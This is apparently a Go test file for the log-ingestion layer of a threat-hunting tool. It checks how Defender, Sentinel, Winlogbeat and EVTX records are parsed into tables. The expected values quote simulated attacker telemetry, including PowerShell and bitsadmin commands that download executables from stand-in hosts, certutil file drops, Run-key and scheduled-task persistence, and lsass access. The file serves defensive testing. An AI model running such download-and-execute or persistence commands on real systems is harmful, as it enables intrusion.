package ingest

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/vigil-hunt/vigil/internal/catalog"
	"github.com/vigil-hunt/vigil/kql/engine"
	"github.com/vigil-hunt/vigil/kql/value"
)

func init() { strictColumns = true }

// memSink keeps every table's rows in one batch.
type memSink struct {
	mu     sync.Mutex
	tables map[string]*engine.Batch
}

func newMemSink() *memSink { return &memSink{tables: map[string]*engine.Batch{}} }

func (m *memSink) WriteBatch(table string, b *engine.Batch) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	acc := m.tables[table]
	if acc == nil {
		acc = engine.NewBatch(b.Schema, b.N)
		m.tables[table] = acc
	}
	if len(acc.Cols) != len(b.Cols) {
		panic("schema changed for " + table)
	}
	for i, c := range b.Cols {
		acc.Cols[i].AppendColumn(c)
	}
	acc.N += b.N
	return nil
}

func (m *memSink) rows(table string) int {
	if b := m.tables[table]; b != nil {
		return b.N
	}
	return 0
}

// find returns the first row of table whose column col reads as text
// containing sub, or -1.
func (m *memSink) find(table, col, sub string) int {
	b := m.tables[table]
	if b == nil {
		return -1
	}
	c := b.Col(col)
	if c == nil {
		return -1
	}
	for r := 0; r < b.N; r++ {
		if strings.Contains(c.Value(r).String(), sub) {
			return r
		}
	}
	return -1
}

func (m *memSink) cell(table string, r int, col string) value.Value {
	c := m.tables[table].Col(col)
	if c == nil {
		return value.Value{}
	}
	return c.Value(r)
}

// check says: in table, the row whose column where contains match has
// column col reading as want.
type check struct {
	table, where, match, col, want string
}

func TestFormats(t *testing.T) {
	tests := []struct {
		file    string
		opts    Options
		format  Format
		records int
		rows    map[string]int
		rejects []string // "line: reason fragment"
		ignored map[string]int
		checks  []check
	}{
		{
			file: "DeviceProcessEvents.jsonl", format: JSON, records: 7,
			rows:    map[string]int{"DeviceProcessEvents": 4},
			rejects: []string{"5: column ProcessId: cannot read", "6: invalid JSON", "7: must be a JSON object"},
			ignored: map[string]int{"DeviceProcessEvents.NotAColumn": 1},
			checks: []check{
				{"DeviceProcessEvents", "FileName", "cmd.exe", "Timestamp", "2024-05-02T10:00:00.1234567Z"},
				{"DeviceProcessEvents", "FileName", "cmd.exe", "AdditionalFields", `{"Flag":1}`},
				{"DeviceProcessEvents", "FileName", "cmd.exe", "ReportId", "17"},
				{"DeviceProcessEvents", "FileName", "net.exe", "Timestamp", "2024-05-02T10:00:01.5000000Z"},
				{"DeviceProcessEvents", "FileName", "net.exe", "ProcessId", "16"},
				{"DeviceProcessEvents", "FileName", "net.exe", "ProcessCreationTime", "2024-05-02T10:00:01.0000000Z"},
				{"DeviceProcessEvents", "FileName", "net.exe", "AdditionalFields", `{"Flag":2}`},
				{"DeviceProcessEvents", "FileName", "ping.exe", "Timestamp", "2024-05-02T10:00:02.0000000Z"},
				{"DeviceProcessEvents", "FileName", "ping.exe", "ProcessId", ""},
				{"DeviceProcessEvents", "FileName", "ping.exe", "IsProcessRemoteSession", "true"},
				{"DeviceProcessEvents", "FileName", "ping.exe", "ReportId", "99"},
				{"DeviceProcessEvents", "FileName", "café.exe", "Timestamp", "2024-05-02T10:00:05.0000000Z"},
				{"DeviceProcessEvents", "FileName", "café.exe", "ProcessCommandLine", "say \"hi\"\tthere"},
			},
		},
		{
			file: "sentinel_rows.json", format: JSON, records: 3,
			rows: map[string]int{"SigninLogs": 1, "MyApp_CL": 2},
			checks: []check{
				{"SigninLogs", "UserPrincipalName", "ana", "IPAddress", "203.0.113.7"},
				{"SigninLogs", "UserPrincipalName", "ana", "DeviceDetail", `{"operatingSystem":"Windows 10"}`},
				{"MyApp_CL", "Message_s", "second", "Count_d", "4.5"},
				{"MyApp_CL", "Message_s", "custom", "TimeGenerated", "2024-05-02T09:05:00.0000000Z"},
			},
		},
		{
			file: "DeviceNetworkEvents.csv", format: CSV, records: 4,
			rows:    map[string]int{"DeviceNetworkEvents": 2},
			rejects: []string{"4: column RemotePort: cannot read", "5: 4 fields, the header has 8"},
			checks: []check{
				{"DeviceNetworkEvents", "RemoteIP", "198.51.100.20", "Timestamp", "2024-05-02T10:15:30.2500000Z"},
				{"DeviceNetworkEvents", "RemoteIP", "198.51.100.20", "InitiatingProcessCommandLine",
					"powershell.exe -c \"iwr https://updates.example.org/a.ps1\"\n -OutFile a.ps1"},
				{"DeviceNetworkEvents", "RemoteIP", "198.51.100.20", "AdditionalFields", `{"Note":"multi-line cell above"}`},
				{"DeviceNetworkEvents", "ActionType", "Listening", "Timestamp", "2024-05-21T08:00:00.0000000Z"},
				{"DeviceNetworkEvents", "ActionType", "Listening", "RemotePort", "8080"},
			},
		},
		{
			// An Entra ID portal download: CreatedDateTime, no TimeGenerated.
			file: "SigninLogs.csv", format: CSV, records: 2,
			rows: map[string]int{"SigninLogs": 2},
			checks: []check{
				{"SigninLogs", "UserPrincipalName", "ana@contoso.example", "CreatedDateTime", "2024-05-02T10:15:30.0000000Z"},
				{"SigninLogs", "UserPrincipalName", "ana@contoso.example", "TimeGenerated", "2024-05-02T10:15:30.0000000Z"},
				{"SigninLogs", "UserPrincipalName", "bob@contoso.example", "TimeGenerated", "2024-05-02T11:00:00.0000000Z"},
			},
		},
		{
			file: "DeviceLogonEvents.utf16.csv", format: CSV, records: 2,
			rows: map[string]int{"DeviceLogonEvents": 2},
			checks: []check{
				{"DeviceLogonEvents", "ActionType", "LogonFailed", "AccountName", "zoë"},
				{"DeviceLogonEvents", "ActionType", "LogonSuccess", "AccountName", "\U0001F600 emoji"},
				{"DeviceLogonEvents", "ActionType", "LogonSuccess", "Timestamp", "2024-05-06T08:00:01.0000000Z"},
			},
		},
		{
			file: "eventhub.json", format: EventHub, records: 6,
			rows:    map[string]int{"DeviceProcessEvents": 1, "DeviceNetworkEvents": 1, "DeviceLogonEvents": 1},
			rejects: []string{`2: no "category"`, "2: must be a JSON object", "3: invalid JSON"},
			checks: []check{
				{"DeviceProcessEvents", "FileName", "rundll32", "Timestamp", "2024-05-02T10:59:59.5000000Z"},
				{"DeviceProcessEvents", "FileName", "rundll32", "TenantId", "0f1e2d3c-0000-4000-8000-000000000001"},
				{"DeviceProcessEvents", "FileName", "rundll32", "MachineGroup", "Workstations"},
				{"DeviceNetworkEvents", "RemoteIP", "192.0.2.10", "Timestamp", "2024-05-02T11:00:01.0000000Z"},
				{"DeviceNetworkEvents", "RemoteIP", "192.0.2.10", "RemotePort", "8443"},
				{"DeviceLogonEvents", "AccountName", "ana", "LogonType", "Network"},
			},
		},
		{
			file: "eventhub_blob.json", format: EventHub, records: 2,
			rows: map[string]int{"DeviceFileEvents": 1, "DeviceRegistryEvents": 1},
			checks: []check{
				{"DeviceFileEvents", "FileName", "invoice", "FolderPath", `C:\Users\ana\Downloads\invoice.pdf.exe`},
				{"DeviceRegistryEvents", "RegistryValueName", "updater", "Timestamp", "2024-05-02T12:00:01.0000000Z"},
			},
		},
		{
			file: "winlogbeat.jsonl", format: Winlogbeat, records: 20,
			rows: map[string]int{"WindowsEvent": 11, "SecurityEvent": 8, "DeviceProcessEvents": 2,
				"DeviceNetworkEvents": 2, "DeviceFileEvents": 1, "DeviceRegistryEvents": 3, "DeviceEvents": 6,
				"DeviceImageLoadEvents": 1, "DeviceLogonEvents": 3},
			rejects: []string{"19: no EventID"},
			checks: []check{
				{"DeviceProcessEvents", "FileName", "certutil", "Timestamp", "2024-05-03T07:59:59.1230000Z"},
				{"DeviceProcessEvents", "FileName", "certutil", "DeviceName", "lab-ws1.lab.example"},
				{"DeviceProcessEvents", "FileName", "certutil", "FolderPath", `C:\Windows\System32\certutil.exe`},
				{"DeviceProcessEvents", "FileName", "certutil", "ProcessId", "6012"},
				{"DeviceProcessEvents", "FileName", "certutil", "SHA1", "aaaa1111"},
				{"DeviceProcessEvents", "FileName", "certutil", "SHA256", "cccc3333"},
				{"DeviceProcessEvents", "FileName", "certutil", "AccountDomain", "LAB"},
				{"DeviceProcessEvents", "FileName", "certutil", "AccountName", "bob"},
				{"DeviceProcessEvents", "FileName", "certutil", "LogonId", "255905"},
				{"DeviceProcessEvents", "FileName", "certutil", "ProcessIntegrityLevel", "Medium"},
				{"DeviceProcessEvents", "FileName", "certutil", "InitiatingProcessFileName", "cmd.exe"},
				{"DeviceProcessEvents", "FileName", "certutil", "InitiatingProcessId", "5000"},
				{"DeviceProcessEvents", "FileName", "certutil", "InitiatingProcessAccountName", "bob"},
				{"DeviceProcessEvents", "FileName", "certutil", "ProcessVersionInfoOriginalFileName", "CertUtil.exe"},
				{"DeviceProcessEvents", "FileName", "certutil", "AdditionalFields",
					`{"ProcessGuid":"{aaaaaaaa-0001-0000-0000-000000000001}","ParentProcessGuid":"{aaaaaaaa-0001-0000-0000-000000000000}","LogonGuid":"{aaaaaaaa-0000-0000-0000-000000000002}","CurrentDirectory":"C:\\Users\\bob\\"}`},
				{"DeviceNetworkEvents", "RemotePort", "80", "ActionType", "ConnectionSuccess"},
				{"DeviceNetworkEvents", "RemotePort", "80", "LocalIP", "10.1.2.3"},
				{"DeviceNetworkEvents", "RemotePort", "80", "RemoteIPType", "Public"},
				{"DeviceNetworkEvents", "RemotePort", "80", "Protocol", "Tcp"},
				{"DeviceNetworkEvents", "LocalPort", "445", "ActionType", "InboundConnectionAccepted"},
				{"DeviceNetworkEvents", "LocalPort", "445", "RemoteIP", "10.9.9.9"},
				{"DeviceFileEvents", "FileName", "p.bin", "ActionType", "FileCreated"},
				{"DeviceFileEvents", "FileName", "p.bin", "InitiatingProcessFileName", "certutil.exe"},
				{"DeviceRegistryEvents", "RegistryValueName", "Updater", "RegistryKey",
					`HKEY_USERS\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run`},
				{"DeviceRegistryEvents", "RegistryValueName", "Updater", "RegistryValueData", `C:\Users\bob\p.exe`},
				{"DeviceRegistryEvents", "RegistryValueName", "Updater", "ActionType", "RegistryValueSet"},
				{"DeviceRegistryEvents", "RegistryValueName", "DisableRestrictedAdmin", "RegistryValueData", "0"},
				{"DeviceRegistryEvents", "RegistryValueName", "DisableRestrictedAdmin", "RegistryValueType", "Dword"},
				{"DeviceRegistryEvents", "ActionType", "RegistryKeyCreated", "RegistryKey", `HKEY_LOCAL_MACHINE\SOFTWARE\Example`},
				{"DeviceEvents", "ActionType", "DnsQueryResponse", "AdditionalFields",
					`{"DnsQueryString":"bad.example.net","DnsQueryResult":"::ffff:198.51.100.9;","QueryStatus":"0"}`},
				{"DeviceEvents", "ActionType", "OpenProcessApiCall", "FileName", "lsass.exe"},
				{"DeviceEvents", "ActionType", "OpenProcessApiCall", "InitiatingProcessFileName", "dump.exe"},
				{"DeviceEvents", "ActionType", "ScheduledTaskCreated", "AdditionalFields",
					`{"TaskName":"\\Updater","TaskContent":"<Task><Exec>C:\\Users\\bob\\p.exe</Exec></Task>"}`},
				{"DeviceEvents", "ActionType", "UserAccountCreated", "AccountName", "support"},
				{"DeviceEvents", "ActionType", "UserAccountAddedToLocalGroup", "AccountSid", "S-1-5-21-1-2-3-1002"},
				{"DeviceEvents", "ActionType", "PowerShellCommand", "AdditionalFields", `{"Command":"Invoke-WebRequest"}`},
				{"DeviceImageLoadEvents", "FileName", "dbghelp", "SHA256", "eeee5555"},
				{"DeviceLogonEvents", "ActionType", "LogonSuccess", "LogonType", "RemoteInteractive"},
				{"DeviceLogonEvents", "ActionType", "LogonSuccess", "RemoteIP", "203.0.113.50"},
				{"DeviceLogonEvents", "ActionType", "LogonSuccess", "IsLocalAdmin", "true"},
				{"DeviceLogonEvents", "ActionType", "LogonSuccess", "LogonId", "370085"},
				{"DeviceLogonEvents", "ActionType", "LogonSuccess", "InitiatingProcessId", "752"},
				{"DeviceLogonEvents", "ActionType", "LogonSuccess", "Timestamp", "2024-05-03T08:01:00.0000000Z"},
				{"DeviceLogonEvents", "AccountName", "admin", "FailureReason", "WrongPassword"},
				{"DeviceLogonEvents", "AccountName", "admin", "RemoteIP", ""},
				{"DeviceLogonEvents", "AccountName", "svc_sql", "FailureReason", "AccountLocked"},
				{"DeviceLogonEvents", "AccountName", "svc_sql", "DeviceName", "lab-dc1.lab.example"},
				{"DeviceProcessEvents", "FileName", "schtasks", "ProcessId", "6699"},
				{"DeviceProcessEvents", "FileName", "schtasks", "AccountName", "bob"},
				{"DeviceProcessEvents", "FileName", "schtasks", "ProcessTokenElevation", "TokenElevationTypeLimited"},
				{"DeviceProcessEvents", "FileName", "schtasks", "InitiatingProcessId", "4096"},
				{"SecurityEvent", "TargetUserName", "svc_sql", "Computer", "LAB-DC1.lab.example"},
				{"SecurityEvent", "TargetUserName", "svc_sql", "EventRecordId", "991"},
				{"SecurityEvent", "TargetUserName", "admin", "Account", `LAB\admin`},
				{"SecurityEvent", "EventID", "4624", "LogonTypeName", "10 - RemoteInteractive"},
				{"SecurityEvent", "EventID", "4624", "Activity", "4624 - An account was successfully logged on."},
				{"WindowsEvent", "EventID", "22", "EventData",
					`{"UtcTime":"2024-05-03 08:00:06.000","ProcessId":"6012","Image":"C:\\Windows\\System32\\certutil.exe","QueryName":"bad.example.net","QueryStatus":"0","QueryResults":"::ffff:198.51.100.9;"}`},
			},
		},
		{
			file: "evtx_dump.json", format: EvtxDump, records: 4,
			rows:    map[string]int{"WindowsEvent": 2, "DeviceProcessEvents": 1, "DeviceEvents": 1},
			rejects: []string{"46: no EventID", "52: invalid JSON"},
			checks: []check{
				{"DeviceProcessEvents", "FileName", "mshta", "DeviceName", "lab-ws2"},
				{"DeviceProcessEvents", "FileName", "mshta", "Timestamp", "2024-05-04T09:00:00.6500000Z"},
				{"DeviceProcessEvents", "FileName", "mshta", "ProcessId", "4400"},
				{"DeviceProcessEvents", "FileName", "mshta", "InitiatingProcessFileName", "explorer.exe"},
				{"DeviceEvents", "ActionType", "ServiceInstalled", "AdditionalFields",
					`{"ServiceName":"evilsvc","ServiceFileName":"C:\\Windows\\Temp\\evil.exe","ServiceType":"user mode service","ServiceStartType":"auto start","ServiceAccount":"LocalSystem"}`},
				{"WindowsEvent", "EventID", "1", "TimeGenerated", "2024-05-04T09:00:00.6543210Z"},
				{"WindowsEvent", "EventID", "1", "EventRecordId", "1234"},
				{"WindowsEvent", "EventID", "1", "SystemProcessId", "3000"},
				{"WindowsEvent", "EventID", "1", "Provider", "Microsoft-Windows-Sysmon"},
				{"WindowsEvent", "EventID", "7045", "Channel", "System"},
			},
		},
		{
			file: "sentinel_events.jsonl", format: JSON, records: 4,
			rows: map[string]int{"SecurityEvent": 2, "WindowsEvent": 2, "DeviceProcessEvents": 2,
				"DeviceNetworkEvents": 1, "DeviceEvents": 1},
			checks: []check{
				{"DeviceProcessEvents", "FileName", "bitsadmin", "ProcessCommandLine", `bitsadmin /transfer job http://198.51.100.3/x.exe C:\x.exe`},
				{"DeviceProcessEvents", "FileName", "bitsadmin", "ProcessId", "153"},
				{"DeviceProcessEvents", "FileName", "bitsadmin", "AccountName", "dave"},
				{"DeviceProcessEvents", "FileName", "bitsadmin", "DeviceName", "lab-srv1.lab.example"},
				{"DeviceNetworkEvents", "RemoteIP", "192.0.2.44", "ActionType", "ConnectionSuccess"},
				{"DeviceNetworkEvents", "RemoteIP", "192.0.2.44", "RemotePort", "443"},
				{"DeviceNetworkEvents", "RemoteIP", "192.0.2.44", "LocalIP", "10.0.0.5"},
				{"DeviceNetworkEvents", "RemoteIP", "192.0.2.44", "InitiatingProcessFolderPath", `C:\windows\system32\svchost.exe`},
				{"DeviceNetworkEvents", "RemoteIP", "192.0.2.44", "InitiatingProcessId", "1234"},
				{"DeviceProcessEvents", "FileName", "java", "AccountName", "svc_app"},
				{"DeviceProcessEvents", "FileName", "java", "Timestamp", "2024-05-05T07:00:01.9000000Z"},
				{"DeviceEvents", "ActionType", "DnsQueryResponse", "AdditionalFields", `{"DnsQueryString":"ldap.bad.example","DnsQueryResult":"192.0.2.66;"}`},
			},
		},
		{
			file: "winlogbeat.jsonl", format: Winlogbeat, records: 20, opts: Options{NoNormalize: true},
			rows:    map[string]int{"WindowsEvent": 11, "SecurityEvent": 8},
			rejects: []string{"19: no EventID"},
		},
		{
			file: "DeviceProcessEvents.jsonl", format: JSON, records: 7, opts: Options{Table: "MyProcesses"},
			rows:    map[string]int{"MyProcesses": 5},
			rejects: []string{"6: invalid JSON", "7: must be a JSON object"},
		},
	}
	for _, tt := range tests {
		name := tt.file
		if tt.opts.Table != "" || tt.opts.NoNormalize {
			name += "/opts"
		}
		t.Run(name, func(t *testing.T) {
			sink := newMemSink()
			var rejects bytes.Buffer
			sum, err := File(context.Background(), filepath.Join("testdata", tt.file), sink, &rejects, tt.opts)
			if err != nil {
				t.Fatal(err)
			}
			if sum.Format != tt.format {
				t.Errorf("format %v, want %v", sum.Format, tt.format)
			}
			if sum.Records != tt.records {
				t.Errorf("records %d, want %d", sum.Records, tt.records)
			}
			for table, n := range tt.rows {
				if got := sink.rows(table); got != n || sum.Rows[table] != n {
					t.Errorf("%s: %d rows (summary %d), want %d", table, got, sum.Rows[table], n)
				}
			}
			for table, n := range sum.Rows {
				if _, ok := tt.rows[table]; !ok {
					t.Errorf("unexpected table %s with %d rows", table, n)
				}
			}
			checkRejects(t, rejects.Bytes(), sum.Rejects, tt.rejects)
			for k, n := range tt.ignored {
				if sum.Ignored[k] != n {
					t.Errorf("ignored %s = %d, want %d (all: %v)", k, sum.Ignored[k], n, sum.Ignored)
				}
			}
			for _, c := range tt.checks {
				r := sink.find(c.table, c.where, c.match)
				if r < 0 {
					t.Errorf("%s: no row with %s containing %q", c.table, c.where, c.match)
					continue
				}
				if got := sink.cell(c.table, r, c.col).String(); got != c.want {
					t.Errorf("%s[%s~%q].%s = %q, want %q", c.table, c.where, c.match, c.col, got, c.want)
				}
			}
		})
	}
}

// checkRejects compares the rejects file with "line: reason" fragments,
// in order.
func checkRejects(t *testing.T, data []byte, count int, want []string) {
	t.Helper()
	var got []Reject
	for _, line := range bytes.Split(bytes.TrimSpace(data), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var r Reject
		if err := json.Unmarshal(line, &r); err != nil {
			t.Fatalf("rejects file: %v: %s", err, line)
		}
		if r.File == "" || r.Reason == "" || r.Record == "" {
			t.Errorf("incomplete reject %+v", r)
		}
		got = append(got, r)
	}
	if len(got) != count || len(got) != len(want) {
		t.Errorf("%d rejects (summary %d), want %d:", len(got), count, len(want))
		for _, r := range got {
			t.Logf("  %s", r)
		}
		return
	}
	for i, w := range want {
		line, frag, _ := strings.Cut(w, ": ")
		if s := got[i].String(); !strings.Contains(s, ":"+line+": ") || !strings.Contains(got[i].Reason, frag) {
			t.Errorf("reject %d = %s, want line %s and %q", i, s, line, frag)
		}
	}
}

func TestGzipStdinAndErrors(t *testing.T) {
	plain, err := os.ReadFile(filepath.Join("testdata", "DeviceProcessEvents.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write(plain)
	zw.Close()

	sink := newMemSink()
	var progress []Progress
	sum, err := Reader(context.Background(), "DeviceProcessEvents.jsonl.gz", &gz, sink, nil,
		Options{Progress: func(p Progress) { progress = append(progress, p) }})
	if err != nil || sum.Rows["DeviceProcessEvents"] != 4 || sum.Rejects != 3 || sum.Bytes >= int64(len(plain)) {
		t.Errorf("gzip: %v, %v (bytes %d of %d)", sum, err, sum.Bytes, len(plain))
	}
	if len(progress) == 0 || progress[len(progress)-1].Records != 7 {
		t.Errorf("progress reports %+v", progress)
	}

	// Unnamed input: rows without a table column that fit no table are rejected.
	var rej []Reject
	sum, err = Reader(context.Background(), "-", strings.NewReader(`{"x":1}`+"\n"+`{"Type":"SigninLogs","IPAddress":"192.0.2.9"}`),
		newMemSink(), nil, Options{OnReject: func(r Reject) { rej = append(rej, r) }})
	if err != nil || sum.Rows["SigninLogs"] != 1 || len(rej) != 1 || !strings.Contains(rej[0].Reason, "no table") || rej[0].Line != 1 {
		t.Errorf("stdin: %v, %v, %v", sum, err, rej)
	}

	// A failing sink and a cancelled context stop the ingestion with an error.
	failing := sinkFunc(func(string, *engine.Batch) error { return errors.New("disk full") })
	if _, err := Reader(context.Background(), "DeviceProcessEvents.jsonl", bytes.NewReader(plain), failing, nil, Options{}); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("failing sink: err = %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Reader(ctx, "DeviceProcessEvents.jsonl", bytes.NewReader(plain), newMemSink(), nil, Options{}); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: err = %v", err)
	}
	if _, err := Reader(context.Background(), "x.json", bytes.NewReader(plain), newMemSink(), nil, Options{Format: Winlogbeat, Table: "X"}); err == nil {
		t.Error("a table with an event format: no error")
	}
}

type sinkFunc func(string, *engine.Batch) error

func (f sinkFunc) WriteBatch(t string, b *engine.Batch) error { return f(t, b) }

func TestFit(t *testing.T) {
	reg := registryFor(catalog.Default())
	tests := []struct {
		names []string
		want  string
	}{
		{[]string{"Timestamp", "DeviceId", "DeviceName", "ActionType", "InitiatingProcessLogonId", "ReportId_long", "AdditionalFields_string"}, "DeviceEvents"},
		{[]string{"Timestamp", "ActionType", "Application", "TargetAccountUpn", "DestinationDeviceName", "Protocol", "ReportId"}, "IdentityDirectoryEvents"},
		{[]string{"TimeGenerated [UTC]", "UserPrincipalName", "IPAddress", "ResultType", "AppDisplayName", "ConditionalAccessStatus"}, "SigninLogs"},
		{[]string{"AppName", "HighRisk", "permissions"}, ""},
		{[]string{"a", "b", "c", "d", "Timestamp"}, ""},
	}
	for _, tt := range tests {
		if got := reg.fit.best(tt.names); got != tt.want {
			t.Errorf("fit(%v) = %q, want %q", tt.names, got, tt.want)
		}
	}
}
